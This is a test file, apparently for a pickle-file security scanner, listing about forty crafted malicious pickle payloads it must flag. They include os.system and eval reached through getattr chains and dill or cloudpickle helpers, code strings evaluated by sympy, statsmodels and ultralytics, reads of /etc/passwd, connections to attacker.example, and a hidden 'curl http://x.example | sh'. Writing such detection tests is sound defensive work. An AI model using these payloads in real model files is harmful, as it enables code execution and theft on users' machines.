import { describe } from "vitest";
import * as p from "../builders/pickle.js";
import { failing } from "./attack.js";
import { call, callOf, dict, listOf, made, named, tupleOf, UNVETTED, whole, withState } from "./pickle-calls.js";

const LINEAR = made("torch.nn.modules.linear", "Linear");

describe("an attack by the state of objects", () => {
  failing([
    {
      hope: "a planted method stands in an OrderedDict, which BUILD takes for a dict",
      bytes: () =>
        whole(
          withState(LINEAR, call("collections", "OrderedDict", listOf(tupleOf(p.text("append"), UNVETTED)))),
          p.text("id"),
          p.append,
        ),
      least: "medium",
    },
    {
      hope: "a planted method stands in what dict() returns",
      bytes: () =>
        whole(withState(LINEAR, call("builtins", "dict", listOf(tupleOf(p.text("__reduce_ex__"), UNVETTED))))),
      least: "medium",
    },
    {
      hope: "the name of a planted method is put together by operator.add",
      bytes: () =>
        whole(
          withState(
            LINEAR,
            p.pickle(p.emptyDict, call("operator", "add", p.text("app"), p.text("end")), UNVETTED, p.setitem),
          ),
          p.text("id"),
          p.append,
        ),
      least: "medium",
    },
    {
      hope: "the name of a planted method is what format returns",
      bytes: () =>
        whole(
          withState(LINEAR, p.pickle(p.emptyDict, call("builtins", "format", p.text("append")), UNVETTED, p.setitem)),
          p.text("id"),
          p.append,
        ),
      least: "medium",
    },
    {
      hope: "the logger that getLogger returns is everybody's, and BUILD replaces its methods",
      bytes: () => whole(withState(call("logging", "getLogger", p.text("root")), dict({ isEnabledFor: UNVETTED }))),
      least: "high",
    },
    {
      hope: "type() returns the class of an object, and BUILD replaces its methods for all of them",
      bytes: () => whole(withState(call("builtins", "type", LINEAR), tupleOf(p.none, dict({ forward: UNVETTED })))),
      least: "high",
    },
    {
      hope: "subimport returns a module, and BUILD replaces its functions",
      bytes: () =>
        whole(
          withState(
            call("cloudpickle.cloudpickle", "subimport", p.text("torch.nn.functional")),
            dict({ relu: UNVETTED }),
          ),
        ),
      least: "high",
    },
    {
      hope: "dill's _import_module returns a module, and BUILD replaces its functions",
      bytes: () =>
        whole(withState(call("dill._dill", "_import_module", p.text("torch.nn.functional")), dict({ relu: UNVETTED }))),
      least: "high",
    },
    {
      hope: "getattr reaches a class below an object, and BUILD replaces its methods",
      bytes: () =>
        whole(
          withState(
            call("builtins", "getattr", LINEAR, p.text("forward")),
            tupleOf(p.none, dict({ forward: UNVETTED })),
          ),
        ),
      least: "medium",
    },
    {
      hope: "subimport leads to os by two getattr",
      bytes: () =>
        whole(
          callOf(
            call(
              "builtins",
              "getattr",
              call("builtins", "getattr", call("cloudpickle.cloudpickle", "subimport", p.text("torch")), p.text("os")),
              p.text("system"),
            ),
            p.text("id"),
          ),
        ),
      least: "critical",
    },
    {
      hope: "a default that cannot be folded keeps getattr from being followed",
      bytes: () =>
        whole(callOf(call("builtins", "getattr", named("torch", "os"), p.text("system"), p.emptyDict), p.text("id"))),
      least: "critical",
    },
    {
      hope: "a module that a package imported is only imported, and is os",
      bytes: () => whole(named("torch", "os")),
      least: "high",
    },
    {
      hope: "dill's _import_module fetches a builtin by its dotted name",
      bytes: () => whole(callOf(call("dill._dill", "_import_module", p.text("builtins.eval")), p.text("1"))),
      least: "critical",
    },
    {
      hope: "dill's _create_namedtuple returns a name of any module instead of making a class",
      bytes: () =>
        whole(
          callOf(
            call("dill._dill", "_create_namedtuple", p.text("system"), tupleOf(p.text("a")), p.text("os")),
            p.text("id"),
          ),
        ),
      least: "critical",
    },
    {
      hope: "_builtin_type returns the builtins of the module types",
      bytes: () =>
        whole(
          callOf(
            call(
              "operator",
              "getitem",
              call("cloudpickle.cloudpickle", "_builtin_type", p.text("__builtins__")),
              p.text("eval"),
            ),
            p.text("1"),
          ),
        ),
      least: "critical",
    },
    {
      hope: "the pieces of a name are added after operator.add was called before",
      bytes: () =>
        whole(
          call("operator", "add", p.text("a"), p.text("b")),
          p.pop,
          p.text("os"),
          call("operator", "add", p.text("sys"), p.text("tem")),
          p.stackGlobal,
          p.text("id"),
          p.tuple1,
          p.reduce,
        ),
      least: "critical",
      rule: "pickle/unsafe-call",
    },
    {
      hope: "scipy runs a text in the state of a distribution",
      bytes: () =>
        whole(
          withState(
            made("scipy.stats._continuous_distns", "norm_gen"),
            dict({ _parse_arg_template: p.text("import os\nos.system('id')") }),
          ),
        ),
      least: "critical",
    },
    {
      hope: "statsmodels evaluates the formula in the state of its data",
      bytes: () =>
        whole(
          withState(
            made("statsmodels.base.data", "PandasData"),
            dict({ restore_design_info: [0x88], formula: p.text("y ~ __import__('os').system('id')"), frame: p.none }),
          ),
        ),
      least: "critical",
    },
    {
      hope: "a study's storage connects to the address in its state",
      bytes: () =>
        whole(
          withState(
            made("optuna.storages._rdb.storage", "RDBStorage"),
            dict({ url: p.text("mysql://attacker.example/x"), engine_kwargs: p.emptyDict }),
          ),
        ),
      least: "high",
    },
    {
      hope: "a store of torch connects to a host when it is made",
      bytes: () => whole(call("torch._C._distributed_c10d", "TCPStore", p.text("attacker.example"), p.int(80))),
      least: "high",
    },
    {
      hope: "a runner of torch loads a native library by a relative name",
      bytes: () => whole(call("torch._C._aoti", "AOTIModelContainerRunnerCpu", p.text("x.so"), p.int(1))),
      least: "critical",
    },
    {
      hope: "a method of a harmless class maps a file for writing",
      bytes: () => whole(call("torch", "UntypedStorage.from_file", p.text("x"), [0x88], p.int(8))),
      least: "high",
    },
    {
      hope: "an element tree parses any file",
      bytes: () => whole(call("xml.etree.ElementTree", "ElementTree", p.none, p.text("secrets.xml"))),
      least: "high",
    },
    {
      hope: "sympy evaluates the text that a function is made with, by NEWOBJ",
      bytes: () =>
        whole(made("sympy.functions.elementary.trigonometric", "sin", p.text("__import__('os').system('id')"))),
      least: "critical",
    },
    {
      hope: "sympy evaluates the text that a function is called with",
      bytes: () => whole(call("sympy.functions.elementary.exponential", "log", p.text("open('/tmp/x','w')"))),
      least: "critical",
    },
    {
      hope: "sympy evaluates the text after an object of the same class was made harmlessly",
      bytes: () =>
        whole(
          made("sympy.functions.elementary.trigonometric", "sin", p.int(1)),
          p.pop,
          made("sympy.functions.elementary.trigonometric", "sin", p.text("exec('1')")),
        ),
      least: "critical",
    },
    {
      hope: "ultralytics evaluates the activation that a model's configuration names",
      bytes: () =>
        whole(
          call(
            "ultralytics.nn.tasks",
            "DetectionModel",
            dict({ activation: p.text("__import__('os').system('id')"), nc: p.int(1) }),
          ),
        ),
      least: "critical",
    },
    {
      hope: "a harmless class fetches a model from the hub when it is called",
      bytes: () =>
        whole(
          call("sentence_transformers.sentence_transformer.model", "SentenceTransformer", p.text("attacker/model")),
        ),
      least: "critical",
    },
    {
      hope: "a harmless class reads a file when it is called",
      bytes: () => whole(call("xgboost.core", "Booster", p.none, p.emptyTuple, p.text("../other/model.bin"))),
      least: "high",
    },
    {
      hope: "a harmless class reads a file by OBJ",
      bytes: () =>
        whole(p.pickle(p.mark, named("lightgbm.basic", "Booster"), p.none, p.none, p.text("/etc/passwd"), p.obj)),
      least: "high",
    },
    {
      hope: "a trusted class loads a native library when it is called",
      bytes: () => whole(call("torch.cuda.memory", "CUDAPluggableAllocator", p.text("x.so"), p.text("a"), p.text("b"))),
      least: "critical",
    },
    {
      hope: "a timezone reads any file",
      bytes: () => whole(call("dateutil.tz.tz", "tzfile", p.text("/etc/passwd"))),
      least: "high",
    },
    {
      hope: "a graph module's source runs when it is restored",
      bytes: () =>
        whole(
          call(
            "torch.fx.graph_module",
            "reduce_graph_module",
            dict({ _code: p.text("def forward(self, x):\n    return x\nimport os\nos.system('id')\n") }),
            p.text("import torch"),
          ),
        ),
      least: "critical",
    },
    {
      hope: "a dotted name of 5000 characters ends in os.system",
      bytes: () => whole(call("torch", `${"functional.torch.".repeat(300)}os.system`, p.text("id"))),
      least: "critical",
    },
    {
      hope: "fifty dotted names of a thousand parts each keep the scanner busy",
      bytes: () =>
        whole(
          ...Array.from({ length: 50 }, (_, i) => p.pickle(named("collections", `${"abc.".repeat(1000)}n${i}`), p.pop)),
          call("collections", `${"abc.".repeat(1000)}sys.modules`, p.text("id")),
        ),
      least: "critical",
    },
    {
      hope: "a dotted name goes through numpy under the name that modules give it",
      bytes: () => whole(call("sklearn.base", "np.f2py.crackfortran.myeval", p.text("1"))),
      least: "critical",
    },
    {
      hope: "a dotted name goes through a package that another one imported",
      bytes: () => whole(call("torch._tensor", "torch.hub.load", p.text("a/b"), p.text("c"))),
      least: "critical",
    },
    {
      hope: "enum carries builtins under a name of its own",
      bytes: () => whole(call("enum", "bltns.eval", p.text("1"))),
      least: "critical",
    },
    {
      hope: "a command in the second call hides behind an address in the first",
      bytes: () =>
        whole(
          call("torch.utils.made_up", "run_it", p.text("10.0.0.1")),
          p.pop,
          call("torch.utils.made_up", "run_it", p.text("curl http://x.example | sh")),
        ),
      least: "critical",
    },
    {
      hope: "a command in the second argument hides behind an address in the first",
      bytes: () =>
        whole(call("torch.utils.made_up", "run_it", p.text("10.0.0.1"), p.text("curl http://x.example | sh"))),
      least: "critical",
    },
  ]);
});
